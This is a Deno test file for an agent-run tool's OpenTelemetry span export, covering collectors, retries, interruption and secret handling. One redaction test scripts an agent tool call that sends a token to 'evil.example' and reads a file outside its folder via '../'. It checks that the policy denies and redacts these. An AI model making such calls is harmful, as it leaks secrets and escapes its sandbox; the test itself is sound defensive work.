import config from "../deno.json" with { type: "json" };
import {
  assert,
  assertEquals,
  assertMatch,
  assertStringIncludes,
} from "@std/assert";
import { join } from "../deps.ts";
import { exists } from "../evidence/store/exists.ts";
import { besideProgress } from "./beside_progress.ts";
import { type Collector, collector, type ReceivedSpan } from "./collector.ts";
import { completion, error, llmServer, silence } from "./llm_server.ts";
import { writeLongTask } from "./long_task.ts";
import { lacks } from "./permissions.ts";
import {
  program,
  PROJECT,
  started,
  temporaryFolder,
  warmProgram,
} from "./program.ts";

const needs = { ignore: lacks("read", "write", "run", "net") };
const TASK = join(PROJECT, "examples/constitution/task.yaml");
const SECRET = "s3cr3t-of-the-collector";

/** Every variable that a test sets, so that one process can run them all. */
const VARIABLES = [
  ...["ENDPOINT", "HEADERS", "PROTOCOL", "TRACES_ENDPOINT", "TRACES_HEADERS"]
    .map((name) => `OTEL_EXPORTER_OTLP_${name}`),
  ...["OTEL_RESOURCE_ATTRIBUTES", "OTEL_SDK_DISABLED", "OTEL_SERVICE_NAME"],
  ...["OTEL_TRACES_EXPORTER", "SMALL_KEY"],
].join(",");

/** A folder in which the example runs, and sends its spans somewhere. */
function workplace() {
  const folder = temporaryFolder();
  return {
    path: folder.path,
    run: (
      args: readonly string[],
      { env = {}, net = "" }: {
        readonly env?: Record<string, string>;
        readonly net?: string;
      },
    ) =>
      warmProgram(asOnRecord(args, env), {
        cwd: folder.path,
        env,
        permissions: [
          ...["--allow-read", "--allow-write"],
          ...net === "" ? [] : ["--allow-net=127.0.0.1"],
          ...Object.keys(env).length === 0 ? [] : [`--allow-env=${VARIABLES}`],
        ],
      }),
    /** Starts the program, and leaves it to the test what becomes of it. */
    start: (args: readonly string[], net: string) =>
      started(asOnRecord(args), {
        cwd: folder.path,
        permissions: ["--allow-read", "--allow-write", `--allow-net=${net}`],
      }),
    read: (name: string) => Deno.readTextFileSync(join(folder.path, name)),
    /** The text of a file of the run, once it is there. */
    async appears(name: string): Promise<string> {
      const path = join(folder.path, "out", name);
      while (!exists(path)) {
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
      return Deno.readTextFileSync(path);
    },
    exists: (name: string) =>
      [...Deno.readDirSync(join(folder.path, "out"))]
        .some((entry) => entry.name === name),
    [Symbol.dispose]: () => folder[Symbol.dispose](),
  };
}

/** The same command, which sends the spans of `trace.json`, so that they can be compared. */
function asOnRecord(
  args: readonly string[],
  env: Readonly<Record<string, string>> = {},
): readonly string[] {
  const isSent = [...args, ...Object.keys(env)].some((each) =>
    each === "--otlp" || /^OTEL_EXPORTER_OTLP_(TRACES_)?ENDPOINT$/.test(each)
  );
  return isSent ? [...args, "--trace-schema", "seed"] : args;
}

/** An address of this machine at which no server listens. */
function nobody(): string {
  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  return `127.0.0.1:${listener.addr.port}`;
}

/** Every span that arrived, in the form of a trace. */
function arrived({ requests }: Collector): readonly ReceivedSpan[] {
  return requests.flatMap(({ spans }) => spans);
}

/** The ids of the spans of a trace, a line each. */
function idsIn(trace: string): readonly string[] {
  return [...trace.matchAll(/^\{.*?"spanId":"(\w+)"/gm)]
    .map(([, id]) => id ?? "");
}

Deno.test(
  "spans arrive at a collector as trace.json has them",
  needs,
  async () => {
    using here = workplace();
    await using there = collector();
    const { code, stdout, stderr } = await here.run(
      ["run", TASK, "--out", "out", "--json"],
      {
        net: there.host,
        env: {
          OTEL_EXPORTER_OTLP_ENDPOINT: there.url,
          OTEL_EXPORTER_OTLP_HEADERS: `authorization=Bearer%20${SECRET}`,
          OTEL_SERVICE_NAME: "library",
          OTEL_RESOURCE_ATTRIBUTES: "deployment.environment.name=test",
        },
      },
    );
    assertEquals([code, besideProgress(stderr)], [0, ""]);
    const [request] = there.requests;
    assertEquals(request?.path, "/v1/traces");
    assertEquals(request?.headers.get("authorization"), `Bearer ${SECRET}`);
    assertEquals(request?.headers.get("content-type"), "application/json");
    assertEquals(request?.resource["service.name"], "library");
    assertEquals(request?.resource["service.version"], config.version);
    assertEquals(request?.resource["deployment.environment.name"], "test");
    const ids = arrived(there).map(({ spanId }) => spanId);
    assertEquals(ids, idsIn(here.read("out/trace.json")));
    assertEquals(JSON.parse(stdout).spans, { sent: ids.length, unsent: 0 });
    for (
      const name of [
        "state.jsonl",
        "trace.json",
        "run_report.md",
        "manifest.json",
      ]
    ) {
      const text = here.read(`out/${name}`);
      assert(!text.includes(SECRET) && !text.includes(there.host), name);
      assert(!text.includes("library"), name);
    }
  },
);

Deno.test(
  "the environment's variables for traces go before those for everything, and what is not supported is one line",
  needs,
  async () => {
    using here = workplace();
    await using there = collector();
    const { code, stderr } = await here.run(["run", TASK, "--out", "out"], {
      net: there.host,
      env: {
        OTEL_EXPORTER_OTLP_ENDPOINT: "http://127.0.0.1:1",
        OTEL_EXPORTER_OTLP_TRACES_ENDPOINT: `${there.url}/ingest`,
        OTEL_EXPORTER_OTLP_HEADERS: "x-key=everything",
        OTEL_EXPORTER_OTLP_TRACES_HEADERS: "x-key=traces",
        OTEL_EXPORTER_OTLP_PROTOCOL: "grpc",
      },
    });
    assertEquals([code, besideProgress(stderr)], [
      0,
      "OTEL_EXPORTER_OTLP_PROTOCOL=grpc is not supported: only http/json and http/protobuf are, and spans go out as http/json\n",
    ]);
    const [request] = there.requests;
    assertEquals(request?.path, "/ingest");
    assertEquals(request?.headers.get("x-key"), "traces");
  },
);

for (
  const [name, value] of [["OTEL_SDK_DISABLED", "true"], [
    "OTEL_TRACES_EXPORTER",
    "none",
  ]] as const
) {
  Deno.test(
    `no span is sent with ${name}=${value}`,
    needs,
    async () => {
      using here = workplace();
      await using there = collector();
      const { code, stderr } = await here.run(["run", TASK, "--out", "out"], {
        net: there.host,
        env: { OTEL_EXPORTER_OTLP_ENDPOINT: there.url, [name]: value },
      });
      assertEquals([code, besideProgress(stderr), there.requests], [0, "", []]);
    },
  );
}

Deno.test(
  "spans arrive during a run that never waits",
  needs,
  async () => {
    using here = workplace();
    writeLongTask(here.path, 1000);
    let wasOver = true;
    await using there = collector([() => {
      wasOver = here.exists("manifest.json");
      return Response.json({});
    }]);
    const { code } = await here.run(
      ["run", "long.yaml", "--out", "out", "--otlp", there.url],
      { net: there.host },
    );
    assertEquals([code, wasOver], [0, false]);
  },
);

Deno.test("spans arrive during a run", needs, async () => {
  using here = workplace();
  const arrivedOne = Promise.withResolvers<void>();
  await using there = collector([() => {
    arrivedOne.resolve();
    return Response.json({});
  }]);
  const call = { id: "a", name: "search", arguments: '{"query":"tea"}' };
  await using model = llmServer([
    completion({ calls: [call] }),
    // The model does not answer again before spans have arrived.
    async (closed) => {
      await arrivedOne.promise;
      return completion({ content: "Yes." })(closed);
    },
  ]);
  const { code, stderr } = await here.run(
    [
      ...["run", TASK, "--out", "out", "--otlp", there.url],
      ...["--llm", "openai-compatible:small", "--base-url", model.baseUrl],
    ],
    { net: `${there.host},${new URL(model.baseUrl).host}` },
  );
  assertEquals([code, besideProgress(stderr)], [0, ""]);
  assert(there.requests.length >= 2, "everything came at once");
  assertEquals(
    arrived(there).map(({ spanId }) => spanId),
    idsIn(here.read("out/trace.json")),
  );
});

for (
  const { what, net, reason } of [
    {
      what: "is not there",
      net: "127.0.0.1",
      reason: "the connection failed",
    },
    {
      what: "may not be reached",
      net: "",
      reason: "the process has no permission for this (--allow-net)",
    },
  ]
) {
  Deno.test(
    `a collector that ${what} changes nothing of a run, and is told of`,
    needs,
    async () => {
      using here = workplace();
      await here.run(["run", TASK, "--out", "without"], {});
      const host = nobody();
      const { code, stderr } = await here.run(
        ["run", TASK, "--out", "out", "--otlp", `http://${host}`],
        { net },
      );
      assertEquals(code, 0);
      assertEquals(
        besideProgress(stderr).trim(),
        `18 of 18 spans not sent to ${host}: ${reason}; trace.json has them all`,
      );
      for (const name of ["state.jsonl", "trace.json", "run_report.md"]) {
        assertEquals(here.read(`out/${name}`), here.read(`without/${name}`));
      }
      const incident = JSON.parse(here.read("out/incidents.jsonl"));
      assertEquals(
        [incident.type, incident.count, incident.reason],
        ["spans_unsent", 18, reason],
      );
      assertEquals((await here.run(["verify", "out"], {})).code, 0);
    },
  );
}

Deno.test(
  "a collector that never answers does not keep a run from ending",
  needs,
  async () => {
    using here = workplace();
    await using there = collector([() => new Promise<Response>(() => {})]);
    const { code, stderr } = await here.run(
      ["run", TASK, "--out", "out", "--otlp", there.url],
      { net: there.host },
    );
    assertEquals(code, 0);
    assertStringIncludes(stderr, "there was no answer in time");
  },
);

for (
  const { what, task, code } of [
    { what: "Ctrl-C", task: "scripted", code: 0 },
    { what: "a second Ctrl-C", task: "asked", code: 2 },
  ]
) {
  Deno.test(
    `${what} ends the wait for a collector, and nothing else`,
    needs,
    async () => {
      using here = workplace();
      const asked = Promise.withResolvers<void>();
      await using model = llmServer([silence(asked.resolve)]);
      const requested = Promise.withResolvers<void>();
      await using there = collector([() => {
        requested.resolve();
        return new Promise<Response>(() => {});
      }]);
      const child = here.start(
        [
          ...["run", TASK, "--out", "out", "--otlp", there.url],
          ...task === "scripted"
            ? []
            : ["--llm", "openai-compatible:small", "--base-url", model.baseUrl],
        ],
        `${there.host},${new URL(model.baseUrl).host}`,
      );
      if (task === "asked") {
        await asked.promise;
        child.kill("SIGINT");
      }
      await Promise.race([requested.promise, child.status]);
      const whole = await here.appears("manifest.json");
      child.kill("SIGINT");
      const ended = await child.output();
      assertEquals([ended.code, whole], [code, here.read("out/manifest.json")]);
      assertMatch(
        new TextDecoder().decode(ended.stderr),
        /(\d+) of \1 spans not sent to .*: the wait for the answer was abandoned; trace\.json has them all/,
      );
      assertEquals((await here.run(["verify", "out"], {})).code, 0);
    },
  );
}

Deno.test(
  "a collector that is busy is asked again, when it says so",
  needs,
  async () => {
    using here = workplace();
    await using there = collector([
      () =>
        new Response(null, { status: 503, headers: { "retry-after": "1" } }),
    ]);
    const { code, stderr } = await here.run(
      ["run", TASK, "--out", "out", "--otlp", there.url],
      { net: there.host },
    );
    assertEquals([code, besideProgress(stderr)], [0, ""]);
    const [first, second] = there.requests;
    assertEquals(second?.spans, first?.spans);
    assert((second?.at ?? 0) - (first?.at ?? 0) >= 990);
  },
);

Deno.test("what a collector rejects is counted", needs, async () => {
  using here = workplace();
  await using there = collector([
    () => Response.json({ partialSuccess: { rejectedSpans: "4" } }),
  ]);
  const { code, stderr } = await here.run(
    ["run", TASK, "--out", "out", "--otlp", there.url],
    { net: there.host },
  );
  assertEquals(code, 0);
  assertStringIncludes(
    stderr,
    `4 of 18 spans not sent to ${there.host}: the collector rejected them`,
  );
});

Deno.test("a resumed run sends all its spans", needs, async () => {
  using here = workplace();
  await here.run(["run", TASK, "--out", "out"], {});
  const lines = here.read("out/state.jsonl").split("\n");
  for (const name of ["manifest.json", "trace.json", "run_report.md"]) {
    Deno.removeSync(join(here.path, "out", name));
  }
  Deno.writeTextFileSync(
    join(here.path, "out/state.jsonl"),
    lines.slice(0, 12).join("\n") + "\n",
  );
  await using there = collector();
  const { code } = await here.run(["resume", "out", "--otlp", there.url], {
    net: there.host,
  });
  assertEquals(code, 0);
  assertEquals(
    arrived(there).map(({ spanId }) => spanId),
    idsIn(here.read("out/trace.json")),
  );
});

Deno.test(
  "a variable that may not be read is not asked for",
  needs,
  async () => {
    using here = workplace();
    await using there = collector();
    const { code, stderr } = await program(["run", TASK, "--out", "out"], {
      cwd: here.path,
      env: { OTEL_EXPORTER_OTLP_ENDPOINT: there.url },
    });
    assertEquals([code, besideProgress(stderr)], [0, ""]);
    assertEquals(there.requests, []);
    assert(!here.exists("incidents.jsonl"));
  },
);

Deno.test(
  "an invalid endpoint is one clear line, and no file is left",
  {
    ignore: lacks("read", "write", "run"),
  },
  async () => {
    using here = workplace();
    const { code, stderr } = await here.run(
      ["run", TASK, "--out", "out", "--otlp", "collector:4318"],
      {},
    );
    assertEquals([code, stderr.trim().split("\n").length], [1, 1]);
    assertStringIncludes(stderr, "--otlp: expected an http or https URL");
    assertEquals([...Deno.readDirSync(here.path)], []);
  },
);

Deno.test(
  "what a policy redacts is neither in exported spans nor in the report",
  needs,
  async () => {
    using here = workplace();
    const write = (name: string, text: string) =>
      Deno.writeTextFileSync(join(here.path, name), text);
    const policy = Deno.readTextFileSync(join(PROJECT, "policy/v1.yaml"))
      .replace("on_deny: terminate", "on_deny: continue");
    write(
      "policy.yaml",
      `${policy}redact:\n  patterns: ['token=[a-z0-9]+']\n  paths: [$.task.question, $..target_path, $..resolved_path]\n`,
    );
    write(
      "task.yaml",
      `id: redacted
question: What did Ada Lovelace order?
policy: policy.yaml
script:
  - calls:
      - { tool: fetch, args: { url: "https://evil.example/?token=abc123" } }
      - { tool: read, args: { path: "../ada-lovelace.txt" } }
  - answer: Nothing, said token=abc123.
`,
    );
    await using there = collector();
    const { code, stderr } = await here.run(
      ["run", "task.yaml", "--out", "out", "--otlp", there.url],
      { net: there.host },
    );
    assertEquals([code, besideProgress(stderr)], [0, ""]);
    const exported = arrived(there).map(({ text }) => text).join("\n");
    const report = here.read("out/run_report.md");
    for (const text of [exported, report]) {
      assert(!text.includes("abc123"), text);
      assert(!text.toLowerCase().includes("lovelace"), text);
      assertStringIncludes(text, "[redacted]");
      assertStringIncludes(text, "url_allowlist");
      assertStringIncludes(text, "sandbox_path");
    }
    assertStringIncludes(
      report,
      "what 1 pattern and 3 paths of the policy match",
    );
    for (const whole of ["state.jsonl", "trace.json"]) {
      assertStringIncludes(here.read(`out/${whole}`), "token=abc123");
      assertStringIncludes(here.read(`out/${whole}`), "../ada-lovelace.txt");
    }
    assertStringIncludes(here.read("out/state.jsonl"), "Ada Lovelace");
    assertEquals((await here.run(["verify", "out"], {})).code, 0);
    write("out/run_report.md", report.replace("[redacted]", "Ada"));
    const changed = await here.run(["verify", "out"], {});
    assertEquals(changed.code, 2);
    assertStringIncludes(changed.stdout, "run_report.md:10: differs");
  },
);

Deno.test(
  "no key is in anything that a live run leaves, prints or sends",
  needs,
  async () => {
    using here = workplace();
    await using there = collector();
    const key = "sk-live-7f1b22c90d";
    const call = { id: key, name: "read", arguments: `{"path":"${key}"}` };
    await using model = llmServer([
      error(503, { message: `busy, ${key}` }),
      completion({ content: `I was sent ${key}.`, calls: [call] }),
      completion({ content: `Still ${key}.` }),
    ]);
    const { stdout, stderr } = await here.run(
      [
        ...["run", TASK, "--out", "out", "--otlp", there.url],
        ...["--llm", "openai-compatible:small", "--base-url", model.baseUrl],
        ...["--api-key-env", "SMALL_KEY", "--record", "c.jsonl"],
      ],
      {
        net: `${there.host},${new URL(model.baseUrl).host}`,
        env: {
          SMALL_KEY: key,
          OTEL_EXPORTER_OTLP_HEADERS: `x-collector=${SECRET}`,
        },
      },
    );
    assert(model.requests.length >= 2, stderr);
    assert(arrived(there).length > 0);
    const left = ["state.jsonl", "trace.json", "run_report.md", "manifest.json"]
      .map((name) => here.read(`out/${name}`));
    const sent = arrived(there).map(({ text }) => text);
    const resources = there.requests.map(({ resource }) =>
      JSON.stringify(resource)
    );
    const all = [...left, ...sent, ...resources, here.read("c.jsonl")];
    for (const text of [...all, stdout, stderr]) {
      assert(!text.includes(key) && !text.includes(SECRET), text);
    }
    assertStringIncludes(here.read("out/state.jsonl"), "[key]");
  },
);
